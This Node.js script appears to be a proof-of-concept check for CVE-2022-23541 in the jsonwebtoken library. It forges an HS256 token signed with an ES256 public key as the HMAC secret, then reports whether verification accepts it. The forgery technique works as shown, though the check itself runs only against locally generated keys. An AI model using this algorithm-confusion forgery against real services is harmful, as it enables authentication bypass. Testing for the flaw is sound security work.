// a PEM serves HS256 where HS256 is allowed beside ES256 (CVE-2022-23541)
import { createHmac, generateKeyPairSync, sign } from 'node:crypto'

process.on('uncaughtException', e => { console.error(e); process.exit(2) })
const { publicKey, privateKey } = generateKeyPairSync('ec', { namedCurve: 'P-256' })
const b64 = x => Buffer.from(typeof x === 'object' && !Buffer.isBuffer(x) ? JSON.stringify(x) : x).toString('base64url')
function mint(header, payload) {
  const input = `${header}.${payload}`
  return `${input}.${sign('sha256', Buffer.from(input), { key: privateKey, dsaEncoding: 'ieee-p1363' }).toString('base64url')}`
}
const now = Math.floor(Date.now() / 1000)
const header = { alg: 'ES256', kid: 'k' }
const claims = { iss: 'https://issuer.test', sub: 'alice', exp: now + 600 }
const { default: jwt } = await import('jsonwebtoken')
const pem = publicKey.export({ format: 'pem', type: 'spki' })
const verify = async (token, options = { algorithms: ['ES256'] }) => jwt.verify(token, pem, options)

await verify(mint(b64(header), b64(claims))) // an honest one, or the rest says nothing
const key = pem
const input = `${b64({ alg: 'HS256' })}.${b64(claims)}`
const token = `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`
const seen = await verify.call(null, token, { algorithms: ['ES256', 'HS256'] }).then(() => true, () => false)
console.log(seen ? 'accepted' : 'refused')
process.exit(seen ? 0 : 1)
